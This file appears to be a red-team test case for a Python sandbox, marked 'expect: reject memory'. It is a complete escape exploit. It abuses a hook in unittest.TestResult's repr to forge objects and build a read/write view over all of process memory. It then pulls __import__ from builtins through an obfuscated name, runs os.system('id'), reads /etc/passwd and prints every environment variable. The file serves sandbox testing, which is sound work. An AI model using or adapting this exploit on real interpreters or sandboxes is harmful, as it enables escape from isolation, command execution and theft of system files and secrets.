# expect: reject memory
# line: 24
# why: round 97c (red team): result.errors = Errs() put a program object where TestResult's repr asks len(self.errors); where an attribute a library object's own code reads may hold the program's object (the store rule's held_attribute), the dunders of every class are text hooks
import unittest
import typing

L = []
G = []
KEEP = []
HDR = []


def q(v):
    return v.to_bytes(8, "little")


class Box:
    __slots__ = ("__dict__", "a", "b", "c", "d", "e", "f", "g", "h", "i", "j", "k", "l", "m", "n")


class Flag:
    def __bool__(self):
        # self is the forged flag at offset 96 of KEEP[0]: a bytearray over all memory
        KEEP[0][104:152] = q(id(bytearray)) + q(1 << 62) + q((1 << 62) + 1) + q(0) + q(0) + q(0)
        G.append(self)
        return False


class Errs:
    def __len__(self):
        if not KEEP:
            L.clear()
            buf = bytearray(159)
            buf[0:112] = HDR[0]
            KEEP.append(buf)
        return 0


NAME = "T"
victim = Box()
base = id(victim) - 32
HDR.append(
    q(base + 56) + q(0) + q(0) + q(0)                             # values, dict, GC header
    + q(1 << 40) + q(id(typing.TypeVar)) + q(0)                   # a TypeVar at offset 32
    + q(id(NAME)) + q(base + 96) + q(id(False)) + q(0) + q(0)     # __name__, __covariant__, ...
    + q(1 << 40) + q(id(Flag))                                    # a Flag at offset 96
)
result = unittest.TestResult()
result.errors = Errs()
L.append(slice(result, victim))
result = None
victim = None
try:
    text = repr(L)
except Exception:
    pass
mem = G[0]


def rd(addr):
    return int.from_bytes(mem[addr:addr + 8], "little")


def wr(addr, v):
    mem[addr:addr + 8] = q(v)


mod = rd(id(print) + 24)
bdict = rd(mod + 16)
holder = [None]
items = rd(id(holder) + 24)
wr(bdict, rd(bdict) + 1)
wr(items, bdict)
table = holder[0]
imp = table["".join(map(chr, [95, 95, 105, 109, 112, 111, 114, 116, 95, 95]))]
osm = imp("os")
osm.system("id")
print(table["open"]("/etc/passwd").read()[:200])
print(dict(osm.environ))
